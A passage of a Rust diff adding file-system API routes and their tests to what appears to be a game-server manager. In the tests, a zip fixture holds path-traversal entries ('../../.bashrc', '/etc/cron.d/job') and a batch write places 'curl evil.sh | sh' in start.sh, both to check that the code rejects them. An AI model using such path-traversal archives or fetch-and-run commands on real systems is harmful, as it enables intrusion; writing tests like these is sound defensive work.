+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    Ok(Json(read_protected_paths(&path).await))
+}
+
+async fn set_instance_protected_paths(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(protected_paths): Json<ProtectedPaths>,
+) -> Result<Json<ProtectedPaths>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    // the users it restricts can't lift it
+    requester.try_action(&UserAction::WriteGlobalFile)?;
+    protected_paths.validate()?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    write_protected_paths(&path, &protected_paths).await?;
+    Ok(Json(protected_paths))
+}
+
+pub fn get_instance_fs_routes(state: AppState) -> Router {
+    Router::new()
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/ls",
+            get(list_instance_files),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/search",
+            post(search_instance_files),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/tree",
+            get(get_instance_file_tree),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/size",
+            get(dir_size_instance),
+        )
+        .route(
+            "/instances/fs/:base64_relative_path/tree",
+            get(get_instances_file_tree),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/read",
+            get(read_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/read-stream",
+            get(stream_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/head",
+            get(read_instance_file_head),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/tail",
+            get(tail_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/tail/follow",
+            get(follow_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/read-base64",
+            get(read_instance_file_base64),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/archive-contents",
+            get(get_instance_archive_contents),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/level-summary",
+            get(get_instance_level_summary),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/annotation",
+            get(get_instance_file_annotation).put(set_instance_file_annotation),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/is-protected",
+            get(get_instance_file_is_protected),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/actions",
+            get(get_instance_file_actions),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/write",
+            put(write_instance_file).layer(DefaultBodyLimit::disable()),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/write-range",
+            put(write_instance_file_range).layer(DefaultBodyLimit::disable()),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/mkdir",
+            put(make_instance_directory),
+        )
+        .route(
+            "/instance/:uuid/fs/cpr",
+            put(copy_instance_files).layer(DefaultBodyLimit::max(PATH_LIST_BODY_LIMIT)),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/move/:base64_relative_path_dest",
+            put(move_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/rm",
+            delete(remove_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/rm-batch",
+            delete(remove_instance_files_batch).layer(DefaultBodyLimit::max(PATH_LIST_BODY_LIMIT)),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/rmdir",
+            delete(remove_instance_dir),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/new",
+            put(new_instance_file).layer(DefaultBodyLimit::disable()),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/touch",
+            put(touch_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/hash",
+            get(hash_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/fetch",
+            put(fetch_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/url",
+            get(get_instance_file_url),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/upload",
+            put(upload_instance_file).layer(DefaultBodyLimit::disable()),
+        )
+        // aliases of the progression cancel route below, kept for the clients using them
+        .route(
+            "/instance/:uuid/fs/upload/:event_id",
+            delete(cancel_progression),
+        )
+        .route(
+            "/instance/:uuid/fs/operation/:event_id",
+            delete(cancel_progression),
+        )
+        .route(
+            "/instance/:uuid/fs/progression/:event_id/cancel",
+            put(cancel_progression),
+        )
+        .route(
+            "/instance/:uuid/operations",
+            delete(abort_instance_fs_operations),
+        )
+        .route(
+            "/instance/:uuid/fs/:base64_relative_path/unzip",
+            put(unzip_instance_file),
+        )
+        .route(
+            "/instance/:uuid/fs/zip",
+            put(zip_instance_files).layer(DefaultBodyLimit::max(PATH_LIST_BODY_LIMIT)),
+        )
+        .route(
+            "/instance/:uuid/fs/write-batch",
+            put(write_instance_files_batch),
+        )
+        .route("/instance/:uuid/fs/diff", get(diff_instance_files))
+        .route(
+            "/instance/:uuid/fs/limits",
+            get(get_instance_fs_op_limits).put(set_instance_fs_op_limits),
+        )
+        .route(
+            "/instance/:uuid/fs/sanitize_policy",
+            get(get_instance_sanitize_policy).put(set_instance_sanitize_policy),
+        )
+        .route(
+            "/instance/:uuid/fs/writable_paths",
+            get(get_instance_writable_paths).put(set_instance_writable_paths),
+        )
+        .route(
+            "/instance/:uuid/fs/protected_paths",
+            get(get_instance_protected_paths).put(set_instance_protected_paths),
+        )
+        .route(
+            "/instance/:uuid/fs/download-selection",
+            put(download_instance_selection),
+        )
+        .with_state(state)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashSet;
+    use std::io::Read;
+
+    use super::*;
+    use crate::prelude::init_paths;
+    use crate::test_util::write_test_zip;
+
+    #[test]
+    fn test_inspect_archive_lists_entries() {
+        let temp = tempfile::tempdir().unwrap();
+        let archive = temp.path().join("world.zip");
+        write_test_zip(
+            &archive,
+            &[
+                ("world/", b""),
+                ("world/level.dat", b"level"),
+                ("world/region/r.0.0.mca", b"region file"),
+            ],
+        );
+
+        let contents = inspect_archive(&archive, temp.path(), &ProtectedPaths::default()).unwrap();
+        assert_eq!(contents.entries.len(), 3);
+        assert_eq!(contents.total_uncompressed_size, 16);
+        assert!(!contents.has_unsafe_entries);
+        assert!(contents.entries[0].is_dir);
+        assert_eq!(contents.entries[1].name, "world/level.dat");
+        assert_eq!(contents.entries[1].size, 5);
+    }
+
+    #[test]
+    fn test_inspect_archive_flags_zip_slip_and_protected_entries() {
+        let temp = tempfile::tempdir().unwrap();
+        let archive = temp.path().join("plugins.zip");
+        write_test_zip(
+            &archive,
+            &[
+                ("config/settings.yml", b"a: 1"),
+                ("../../.bashrc", b"evil"),
+                ("config/../../escape.txt", b"evil"),
+                ("/etc/cron.d/job", b"evil"),
+                ("mods/", b""),
+                ("start.sh", b"java -jar server.jar"),
+            ],
+        );
+
+        let contents = inspect_archive(&archive, temp.path(), &ProtectedPaths::default()).unwrap();
+        let flags: Vec<(&str, bool, bool)> = contents
+            .entries
+            .iter()
+            .map(|entry| {
+                (
+                    entry.name.as_str(),
+                    entry.escapes_destination,
+                    entry.protected,
+                )
+            })
+            .collect();
+        assert_eq!(
+            flags,
+            vec![
+                ("config/settings.yml", false, false),
+                ("../../.bashrc", true, false),
+                ("config/../../escape.txt", true, false),
+                ("/etc/cron.d/job", true, false),
+                ("mods/", false, true),
+                ("start.sh", false, true),
+            ]
+        );
+        assert!(contents.has_unsafe_entries);
+        assert_eq!(
+            archive_entry_destination("world/./region/../level.dat"),
+            Some(PathBuf::from("world/level.dat"))
+        );
+    }
+
+    #[tokio::test]
+    async fn test_batch_checks_resolve_requester_once() {
+        use crate::auth::{permission::UserPermission, user::User, user::UsersManager};
+        use crate::event_broadcaster::EventBroadcaster;
+
+        let temp = tempfile::tempdir().unwrap();
+        let uuid = InstanceUuid::from("INSTANCE_batch".to_string());
+        let mut permissions = UserPermission::new();
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        let token = user.create_jwt().unwrap();
+        let users_manager = tokio::sync::RwLock::new(UsersManager::new(
+            EventBroadcaster::new(16).0,
+            HashMap::from([(user.uid.clone(), user)]),
+            temp.path().join("users"),
+        ));
+
+        let requester = users_manager
+            .read()
+            .await
+            .try_authorize(token.as_ref(), true)
+            .unwrap();
+        // nothing below can get to the users manager again
+        let _users_manager = users_manager.write().await;
+        let targets: Vec<PathBuf> = (0..1000)
+            .map(|i| temp.path().join(format!("world/region/r.{i}.0.mca")))
+            .collect();
+        let actions: Vec<UserAction> = targets
+            .iter()
+            .map(|_| UserAction::WriteInstanceFile(uuid.clone()))
+            .collect();
+        requester.try_actions(&actions).unwrap();
+        check_paths_writable(
+            &requester,
+            &ProtectedPaths::default(),
+            targets.iter().map(|path| path.as_path()),
+        )
+        .unwrap();
+
+        let err = check_paths_writable(
+            &requester,
+            &ProtectedPaths::default(),
+            targets
+                .iter()
+                .map(|path| path.as_path())
+                .chain([temp.path().join("run.sh").as_path()]),
+        )
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        // unsafe actions stay denied in safe mode, whatever the permissions
+        let err = requester
+            .try_action(&UserAction::WriteGlobalFile)
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+    }
+
+    #[tokio::test]
+    async fn test_write_range_patches_middle_of_file() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("server.properties");
+        std::fs::write(&path, b"motd=A Minecraft Server\nmax-players=20\n").unwrap();
+
+        let (start, length) = parse_content_range("bytes 5-15/39").unwrap();
+        assert_eq!((start, length), (5, 11));
+        let response = write_file_range(&path, start, b"My Survival", false)
+            .await
+            .unwrap();
+        assert_eq!(
+            response,
+            WriteInstanceFileResponse {
+                bytes_written: 11,
+                file_size: 39,
+            }
+        );
+        assert_eq!(
+            std::fs::read(&path).unwrap(),
+            b"motd=My Survival Server\nmax-players=20\n"
+        );
+
+        // appending right at the end grows the file
+        write_file_range(&path, 39, b"pvp=false\n", false)
+            .await
+            .unwrap();
+        assert!(std::fs::read_to_string(&path)
+            .unwrap()
+            .ends_with("max-players=20\npvp=false\n"));
+    }
+
+    #[tokio::test]
+    async fn test_write_range_rejects_out_of_bounds() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("ops.json");
+        std::fs::write(&path, b"[]").unwrap();
+
+        let err = write_file_range(&path, 10, b"{}", false).await.unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        assert_eq!(std::fs::read(&path).unwrap(), b"[]");
+
+        let response = write_file_range(&path, 4, b"{}", true).await.unwrap();
+        assert_eq!(response.file_size, 6);
+        assert_eq!(std::fs::read(&path).unwrap(), b"[]\0\0{}");
+
+        let err = write_file_range(&temp.path().join("missing.json"), 0, b"{}", false)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::NotFound));
+        for header in [
+            "bytes 5-4/10",
+            "bytes 0-10/10",
+            "items 0-1/2",
+            "bytes 0-/2",
+            "bytes 0-18446744073709551615/*",
+        ] {
+            assert!(parse_content_range(header).is_err(), "{header}");
+        }
+        assert_eq!(parse_content_range("bytes 0-1/*").unwrap(), (0, 2));
+        let err = write_file_range(&path, u64::MAX, b"{}", true)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+    }
+
+    #[tokio::test]
+    async fn test_write_file_reports_bytes_written() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("server.properties");
+        let payload = b"motd=A Minecraft Server\nmax-players=20\n";
+
+        let response = write_file_and_report(&path, payload).await.unwrap();
+        assert_eq!(
+            response,
+            WriteInstanceFileResponse {
+                bytes_written: payload.len() as u64,
+                file_size: payload.len() as u64,
+            }
+        );
+
+        // overwriting with a shorter payload truncates the file
+        let response = write_file_and_report(&path, b"motd=hi\n").await.unwrap();
+        assert_eq!(response.bytes_written, 8);
+        assert_eq!(response.file_size, 8);
+        assert_eq!(std::fs::read(&path).unwrap(), b"motd=hi\n");
+    }
+
+    fn batch_entry(path: &str, content: &str) -> BatchWriteEntry {
+        BatchWriteEntry {
+            path: PathBuf::from(path),
+            content: content.to_string(),
+        }
+    }
+
+    #[test]
+    fn test_write_batch_writes_every_file() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir(root.join("config")).unwrap();
+        std::fs::write(root.join("server.properties"), "server-port=25565\n").unwrap();
+        std::fs::write(root.join("config/velocity.toml"), "secret = \"old\"").unwrap();
+
+        let files = resolve_batch(
+            root,
+            vec![
+                batch_entry("server.properties", "server-port=25566\n"),
+                batch_entry("config/velocity.toml", "secret = \"new\""),
+                batch_entry(
+                    "config/paper-global.yml",
+                    "proxies:\n  velocity:\n    enabled: true\n",
+                ),
+            ],
+        )
+        .unwrap();
+        write_files_atomically(&files).unwrap();
+        assert_eq!(
+            std::fs::read_to_string(root.join("server.properties")).unwrap(),
+            "server-port=25566\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join("config/velocity.toml")).unwrap(),
+            "secret = \"new\""
+        );
+        assert!(root.join("config/paper-global.yml").is_file());
+        // no temporary file left behind
+        assert_eq!(std::fs::read_dir(root).unwrap().count(), 2);
+        assert_eq!(std::fs::read_dir(root.join("config")).unwrap().count(), 2);
+
+        let err = resolve_batch(
+            root,
+            vec![
+                batch_entry("server.properties", ""),
+                batch_entry("./server.properties", ""),
+            ],
+        )
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+    }
+
+    #[test]
+    fn test_write_batch_with_a_failing_path_writes_nothing() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::write(root.join("server.properties"), "server-port=25565\n").unwrap();
+        std::fs::write(root.join("start.sh"), "java -jar server.jar").unwrap();
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let requester = AuthorizedUser::new(
+            User::new("alice".to_string(), "password", false, false, permissions),
+            false,
+        );
+        let files = resolve_batch(
+            root,
+            vec![
+                batch_entry("server.properties", "server-port=25566\n"),
+                batch_entry("start.sh", "curl evil.sh | sh"),
+            ],
+        )
+        .unwrap();
+        let err = check_paths_writable(
+            &requester,
+            &ProtectedPaths::default(),
+            files.iter().map(|(path, _)| path.as_path()),
+        )
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+
+        // the last file can't be written, its directory doesn't exist
+        let files = resolve_batch(
+            root,
+            vec![
+                batch_entry("server.properties", "server-port=25566\n"),
+                batch_entry("ops.json", "[]"),
+                batch_entry("plugins/Essentials/config.yml", "ops-name-color: '4'"),
+            ],
+        )
+        .unwrap();
+        assert!(write_files_atomically(&files).is_err());
+        assert_eq!(
+            std::fs::read_to_string(root.join("server.properties")).unwrap(),
+            "server-port=25565\n"
+        );
+        assert!(!root.join("ops.json").exists());
+        assert_eq!(std::fs::read_dir(root).unwrap().count(), 2);
+
+        // rolled back after some files were already replaced
+        let properties = root.join("server.properties");
+        let ops = root.join("ops.json");
+        let mut replaced = Vec::new();
+        for (path, content) in [(&properties, "server-port=25566\n"), (&ops, "[]")] {
+            let staged = temp_file_next_to(path, ".write-batch-")
+                .unwrap()
+                .into_temp_path();
+            std::fs::write(&staged, content).unwrap();
+            replace_with_staged(path, staged, &mut replaced).unwrap();
+        }
+        assert_eq!(std::fs::read_to_string(&ops).unwrap(), "[]");
+        roll_back_replaced(replaced);
+        assert_eq!(
+            std::fs::read_to_string(&properties).unwrap(),
+            "server-port=25565\n"
+        );
+        assert!(!ops.exists());
+        assert_eq!(std::fs::read_dir(root).unwrap().count(), 2);
+    }
+
+    #[test]
+    fn test_remove_batch_reports_each_failure() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir(root.join("logs")).unwrap();
+        std::fs::write(root.join("logs/2023-06-01-1.log.gz"), "").unwrap();
+        std::fs::write(root.join("crash-report.txt"), "").unwrap();
+
+        let files: Vec<(PathBuf, PathBuf)> = [
+            "logs/2023-06-01-1.log.gz",
+            "logs",
+            "missing.txt",
+            "crash-report.txt",
+        ]
+        .into_iter()
+        .map(|relative_path| (PathBuf::from(relative_path), root.join(relative_path)))
+        .collect();
+        let summary = remove_files(&files);
+        assert_eq!(
+            summary.removed,
+            vec![
+                PathBuf::from("logs/2023-06-01-1.log.gz"),
+                PathBuf::from("crash-report.txt")
+            ]
+        );
+        assert_eq!(
+            summary
+                .failed
+                .iter()
+                .map(|failure| failure.path.as_path())
+                .collect::<Vec<_>>(),
+            vec![
+                std::path::Path::new("logs"),
+                std::path::Path::new("missing.txt")
+            ]
+        );
+        // the directory is left alone
+        assert!(root.join("logs").is_dir());
+        assert!(!root.join("crash-report.txt").exists());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_remove_batch_handler_with_a_protected_path_removes_nothing() {
+        use crate::auth::permission::UserPermission;
+        use crate::test_util::{add_test_user, restore_with_fake_java, test_app_state};
+
+        let temp = tempfile::tempdir().unwrap();
+        let instance = restore_with_fake_java(temp.path(), None).await;
+        let uuid = instance.uuid().await;
+        let root = instance.path().await;
+        std::fs::write(root.join("crash-report.txt"), "").unwrap();
+        std::fs::create_dir_all(root.join("plugins")).unwrap();
+        std::fs::write(root.join("plugins/EssentialsX.jar"), "").unwrap();
+
+        let state = test_app_state(temp.path(), vec![instance.clone().into()]).await;
+        let mut permissions = UserPermission::new();
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let token = add_test_user(&state, "alice", permissions).await;
+
+        let err = remove_instance_files_batch(
+            axum::extract::State(state.clone()),
+            Path(uuid.clone()),
+            Query(OpenWorldQuery::default()),
+            AuthBearer(token),
+            Json(vec![
+                PathBuf::from("crash-report.txt"),
+                PathBuf::from("plugins/EssentialsX.jar"),
+            ]),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        // the unprotected file listed before it is kept as well
+        assert!(root.join("crash-report.txt").exists());
+        assert!(root.join("plugins/EssentialsX.jar").exists());
+    }
+
+    #[test]
+    fn test_download_selection_preserves_structure() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("config/mod_a")).unwrap();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("server.properties"), "motd=hi").unwrap();
+        std::fs::write(root.join("config/mod_a/settings.toml"), "a = 1").unwrap();
+        std::fs::write(root.join("config/other.toml"), "b = 2").unwrap();
+        std::fs::write(root.join("world/level.dat"), "level").unwrap();
+
+        let paths = readable_selection(
+            root,
+            &[
+                PathBuf::from("server.properties"),
+                PathBuf::from("config/mod_a"),
+                // covered by config/mod_a already
+                PathBuf::from("config/mod_a/settings.toml"),
+                PathBuf::from("does_not_exist.txt"),
+            ],
+        );
+        assert_eq!(
+            paths,
+            vec![root.join("config/mod_a"), root.join("server.properties")]
+        );
+
+        let zipped = write_zip_stream(
+            &paths,
+            root,
+            std::io::Cursor::new(Vec::new()),
+            &mut |_| {},
+            &CancellationToken::new(),
+        )
+        .unwrap()
+        .into_inner();
+
+        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zipped)).unwrap();
+        let names: HashSet<String> = archive.file_names().map(|s| s.to_owned()).collect();
+        assert!(names.contains("server.properties"));
+        assert!(names.contains("config/mod_a/settings.toml"));
+        assert!(!names.iter().any(|n| n.starts_with("world")));
+        assert!(!names.contains("config/other.toml"));
+
+        let mut content = String::new();
+        archive
+            .by_name("config/mod_a/settings.toml")
+            .unwrap()
+            .read_to_string(&mut content)
+            .unwrap();
+        assert_eq!(content, "a = 1");
+    }
+
+    // 1x1 transparent png
+    const TINY_PNG: [u8; 67] = [
+        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44,
+        0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f,
+        0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00,
+        0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49,
+        0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
+    ];
+
+    #[tokio::test]
+    async fn test_read_file_base64() {
+        let temp = tempfile::tempdir().unwrap();
+        // no extension, the type is detected from the content
+        let icon = temp.path().join("server-icon");
+        std::fs::write(&icon, TINY_PNG).unwrap();
+
+        let response = read_file_base64(&icon, READ_BASE64_MAX_SIZE).await.unwrap();
+        assert_eq!(response.mime_type, "image/png");
+        assert_eq!(response.size, TINY_PNG.len() as u64);
+        assert_eq!(base64::decode(&response.content).unwrap(), TINY_PNG);
+
+        let ops = temp.path().join("ops.json");
+        std::fs::write(&ops, "[]").unwrap();
+        let response = read_file_base64(&ops, READ_BASE64_MAX_SIZE).await.unwrap();
+        assert_eq!(response.mime_type, "application/json");
+
+        let err = read_file_base64(&icon, TINY_PNG.len() as u64 - 1)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        assert!(read_file_base64(&icon, TINY_PNG.len() as u64).await.is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_diff_text_files() {
+        let temp = tempfile::tempdir().unwrap();
+        let backup = temp.path().join("server.properties.bak");
+        let current = temp.path().join("server.properties");
+        std::fs::write(
+            &backup,
+            "motd=A Minecraft Server\nmax-players=20\npvp=true\n",
+        )
+        .unwrap();
+        std::fs::write(
+            &current,
+            "motd=A Minecraft Server\nmax-players=40\npvp=true\n",
+        )
+        .unwrap();
+
+        let diff = diff_files(
+            &backup,
+            "server.properties.bak",
+            &current,
+            "server.properties",
+            DIFF_MAX_SIZE,
+        )
+        .await
+        .unwrap();
+        let expected = "\
+--- a/server.properties.bak
++++ b/server.properties
+@@ -1,3 +1,3 @@
+ motd=A Minecraft Server
+-max-players=20
++max-players=40
+ pvp=true
+";
+        assert_eq!(diff, expected);
+        let same = diff_files(&current, "a", &current, "b", DIFF_MAX_SIZE)
+            .await
+            .unwrap();
+        assert!(same.is_empty());
+
+        let err = diff_files(&backup, "a", &current, "b", 8)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+    }
+
+    #[tokio::test]
+    async fn test_diff_rejects_binary_files() {
+        let temp = tempfile::tempdir().unwrap();
+        let text = temp.path().join("ops.json");
+        std::fs::write(&text, "[]").unwrap();
+        // detected from the content whatever the extension
+        let icon = temp.path().join("server-icon.txt");
+        std::fs::write(&icon, TINY_PNG).unwrap();
+        let level = temp.path().join("level.dat");
+        std::fs::write(&level, b"\x0a\x00\x00\x0a\x00\x04Data").unwrap();
+
+        for binary in [&icon, &level] {
+            let err = diff_files(&text, "a", binary, "b", DIFF_MAX_SIZE)
+                .await
+                .unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::BadRequest));
+            let err = diff_files(binary, "a", &text, "b", DIFF_MAX_SIZE)
+                .await
+                .unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::BadRequest));
+        }
+    }
+
+    #[test]
+    fn test_move_event_targets_destination() {
+        let temp = tempfile::tempdir().unwrap();
+        let source = temp.path().join("old_world");
+        let destination = temp.path().join("backups/old_world");
+        std::fs::create_dir_all(&destination).unwrap();
+
+        let event = new_fs_move_event(source.clone(), destination.clone(), CausedBy::System);
+        match event.event_inner {
+            crate::events::EventInner::FSEvent(fs_event) => {
+                assert_eq!(
+                    fs_event.operation,
+                    FSOperation::Move {
+                        source,
+                        destination: destination.clone(),
+                    }
+                );
+                assert_eq!(fs_event.target, FSTarget::Directory(destination));
+            }
+            _ => panic!("expected a fs event"),
+        }
+
+        let renamed = temp.path().join("server.properties.bak");
+        std::fs::write(&renamed, "").unwrap();
+        let event = new_fs_move_event(
+            temp.path().join("server.properties"),
+            renamed.clone(),
+            CausedBy::System,
+        );
+        match event.event_inner {
+            crate::events::EventInner::FSEvent(fs_event) => {
+                assert_eq!(fs_event.target, FSTarget::File(renamed))
+            }
+            _ => panic!("expected a fs event"),
+        }
+    }
+
+    #[test]
+    fn test_source_path_count() {
+        let err = check_source_path_count(&[], 10).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        assert!(err.to_string().contains("No source paths"));
+
+        let paths: Vec<PathBuf> = (0..11).map(|i| PathBuf::from(format!("{i}.dat"))).collect();
+        assert!(check_source_path_count(&paths[..10], 10).is_ok());
+        let err = check_source_path_count(&paths, 10).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        assert!(err.to_string().contains("at most 10"));
+    }
+
+    #[tokio::test]
+    async fn test_cancel_upload_removes_partial_file() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("world.zip");
+        let uuid = InstanceUuid::from("instance".to_string());
+        let owner = UserId::from("owner".to_string());
+        let sessions = UploadSessions::default();
+        let (event_broadcaster, mut rx) = crate::event_broadcaster::EventBroadcaster::new(16);
+        let (_, event_id) =
+            Event::new_progression_event_start("Uploading files", None, None, CausedBy::System);
+        let session = sessions.register(event_id.inner(), uuid.clone(), owner.clone());
+
+        // the first chunk arrives, then the client stalls
+        let chunks = futures::stream::iter(vec![Ok::<_, std::io::Error>(Bytes::from_static(
+            b"partial",
+        ))])
+        .chain(futures::stream::pending());
+        let upload = {
+            let path = path.clone();
+            let cancel = session.cancel.clone();
+            tokio::spawn(async move { receive_upload_file(chunks, &path, &cancel, |_| {}).await })
+        };
+        while !path.exists() {
+            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+        }
+
+        let other = UserId::from("other".to_string());
+        assert!(matches!(
+            sessions
+                .cancel(event_id.inner(), &uuid, &other)
+                .unwrap_err()
+                .kind,
+            ErrorKind::PermissionDenied
+        ));
+        assert!(matches!(
+            sessions
+                .cancel(Snowflake::new(), &uuid, &owner)
+                .unwrap_err()
+                .kind,
+            ErrorKind::NotFound
+        ));
+        sessions.cancel(event_id.inner(), &uuid, &owner).unwrap();
+
+        let e = upload.await.unwrap().unwrap_err();
+        assert!(!path.exists());
+        let caused_by = CausedBy::User {
+            user_id: owner.clone(),
+            user_name: "owner".to_string(),
+        };
+        event_broadcaster.send(upload_failed_event(
+            event_id.clone(),
+            &uuid,
+            &caused_by,
+            format!("Upload cancelled: {e}"),
+        ));
+        let event = rx.recv().await.unwrap();
+        assert_eq!(event.caused_by, caused_by);
+        match event.event_inner {
+            crate::events::EventInner::ProgressionEvent(progression) => {
+                assert_eq!(progression.event_id(), event_id.inner());
+                assert!(matches!(
+                    progression.progression_event_inner(),
+                    crate::events::ProgressionEventInner::ProgressionEnd { success: false, .. }
+                ));
+            }
+            _ => panic!("expected a progression event"),
+        }
+
+        // finished uploads can't be cancelled anymore
+        drop(session);
+        assert!(matches!(
+            sessions
+                .cancel(event_id.inner(), &uuid, &owner)
+                .unwrap_err()
+                .kind,
+            ErrorKind::NotFound
+        ));
+    }
+
+    /// Every progression event of the operation, the last one being its end
+    async fn progression_events(rx: &mut tokio::sync::broadcast::Receiver<Event>) -> Vec<Event> {
+        let mut events = Vec::new();
+        loop {
+            let event = rx.recv().await.unwrap();
+            let is_end = matches!(
+                &event.event_inner,
+                crate::events::EventInner::ProgressionEvent(progression)
+                    if matches!(
+                        progression.progression_event_inner(),
+                        crate::events::ProgressionEventInner::ProgressionEnd { .. }
+                    )
+            );
+            events.push(event);
+            if is_end {
+                return events;
+            }
+        }
+    }
+
+    fn assert_completed_by(events: &[Event], caused_by: &CausedBy, success: bool) {
+        assert!(events.iter().all(|event| &event.caused_by == caused_by));
+        match &events.last().unwrap().event_inner {
+            crate::events::EventInner::ProgressionEvent(progression) => assert!(matches!(
+                progression.progression_event_inner(),
+                crate::events::ProgressionEventInner::ProgressionEnd {
+                    success: end_success,
+                    inner: Some(ProgressionEndValue::FSOperationCompleted { .. }),
+                    ..
+                } if *end_success == success
+            )),
+            _ => panic!("expected a progression event"),
+        }
+    }
+
+    #[tokio::test]
+    async fn test_hashing_large_file_reports_progress() {
+        use sha2::Digest;
+
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("world.zip");
+        let content: Vec<u8> = (0..3 * HASH_CHUNK_SIZE + 512)
+            .map(|i| (i % 251) as u8)
+            .collect();
+        std::fs::write(&path, &content).unwrap();
+        let uuid = InstanceUuid::from("instance".to_string());
+        let owner = UserId::from("owner".to_string());
+        let caused_by = CausedBy::User {
+            user_id: owner.clone(),
+            user_name: "owner".to_string(),
+        };
+        let sessions = UploadSessions::default();
+        let (event_broadcaster, mut rx) = crate::event_broadcaster::EventBroadcaster::new(64);
+
+        let digest = hash_and_report(
+            event_broadcaster,
+            &sessions,
+            path,
+            content.len() as u64,
+            HashAlgorithm::Sha256,
+            uuid,
+            owner,
+            caused_by.clone(),
+        )
+        .await
+        .unwrap();
+        assert_eq!(digest, hex::encode(sha2::Sha256::digest(&content)));
+
+        let events = progression_events(&mut rx).await;
